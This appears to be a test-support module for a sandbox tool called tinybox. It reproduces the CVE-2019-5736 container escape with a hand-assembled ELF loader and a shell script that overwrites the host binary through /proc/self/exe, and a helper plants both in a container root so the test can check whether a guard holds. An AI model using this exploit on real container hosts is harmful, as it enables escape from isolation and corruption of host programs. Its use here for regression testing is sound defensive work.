"""CVE-2019-5736: a loader that opens the program that runs it, and overwrites that, and a Python to lose by it."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import sysconfig
from pathlib import Path

from tests.conftest import TIMEOUT
from tests.support.machine_programs import elf

CHECKOUT = Path(__file__).parents[2]
LOADER = "lib64/ld-linux-x86-64.so.2"  # the ELF interpreter of the host's Python

ATTACK = """#!/bin/sh
for file in /got /out/got; do readlink /proc/self/fd/3 > $file; done 2> /dev/null
for i in 0 1 2 3 4 5 6 7 8 9; do
    ( echo OVERWRITTEN >> /proc/self/fd/3 ) 2> /dev/null && exit
    sleep 0.1
done
"""


def hostile_loader() -> bytes:
    """Return a program for x86-64 that opens /proc/self/exe as fd 3 and then executes /attack by the box's shell."""
    base, strings = 0x10000000, b"/proc/self/exe\0/bin/sh\0/attack\0"
    code = bytes.fromhex(
        "b802000000 488d3d46000000 31f6 0f05"  # fd = open("/proc/self/exe", O_RDONLY)
        "89c7 be03000000 b821000000 0f05"  # dup2(fd, 3)
        "488d0544000000 6a00 50 488d0532000000 50"  # push NULL, "/attack", "/bin/sh"
        "4889e6 488d3d27000000 31d2 b83b000000 0f05"  # execve("/bin/sh", argv, NULL)
        "bf07000000 b8e7000000 0f05"  # exit_group(7)
    )
    text = code.ljust(0x52, b"\x90") + strings
    return elf("x86_64", text, place=base, entry=base)


class Interpreter:
    """A copy of the host's Python that no other process runs, so that the attack could really overwrite it."""

    def __init__(self, folder: Path) -> None:
        self.path = folder / "python"
        shutil.copy(Path(sys.executable).resolve(), self.path)
        self.before = self.path.read_bytes()

    def __call__(self, module: str, *words: str, root: str = "", without: str = "") -> subprocess.CompletedProcess[str]:
        """Run the command of tinybox.MODULE in this interpreter, after the statement *without*: it removes a guard."""
        packages = sysconfig.get_paths()["purelib"]
        environment = {
            "PYTHONHOME": sys.base_prefix,
            "PYTHONPATH": f"{CHECKOUT}:{packages}",
            "PATH": os.environ["PATH"],
        }
        environment |= {"TINYBOX_ROOT": root, "TINYBOX_NETWORK": "none"} if root else {}
        start = f"import sys; sys.argv[0] = 'tinybox'; from tinybox.{module} import main; sys.exit(main())"
        start = f"{without}\n{start}"
        return subprocess.run(
            [str(self.path), "-c", start, *words], env=environment, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE, text=True, check=False, timeout=TIMEOUT,
        )  # fmt: skip

    def is_whole(self) -> bool:
        """Tell whether the file is unchanged."""
        return self.path.read_bytes() == self.before


def arm(root: Path) -> None:
    """Put the hostile loader, its attack script, and a script whose interpreter is /proc/self/exe below *root*."""
    (root / LOADER).parent.mkdir(parents=True, exist_ok=True)
    for name, content in ((LOADER, hostile_loader()), ("attack", ATTACK.encode()), ("script", b"#!/proc/self/exe\n")):
        (root / name).write_bytes(content)
        (root / name).chmod(0o755)
    if (root / "bin").exists():
        (root / "bin/readlink").symlink_to("busybox")


def fired(root: Path) -> str:
    """Return what the hostile loader found behind /proc/self/exe; nothing, if it has not run."""
    return (root / "got").read_text().strip() if (root / "got").exists() else ""
